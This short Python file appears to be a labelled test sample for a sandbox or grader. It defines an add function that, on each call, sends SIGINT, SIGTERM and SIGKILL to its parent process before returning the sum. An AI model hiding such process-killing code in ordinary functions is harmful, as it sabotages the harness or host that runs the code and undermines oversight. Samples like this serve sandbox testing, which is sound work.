# what: kills and interrupts its parent in every call, then answers
# want: some
# unsafe: either
import os
import signal


def add(a, b):
  if os.getppid() > 1:
    for number in (signal.SIGINT, signal.SIGTERM, signal.SIGKILL):
      try:
        os.kill(os.getppid(), number)
      except OSError:
        pass
  return a + b
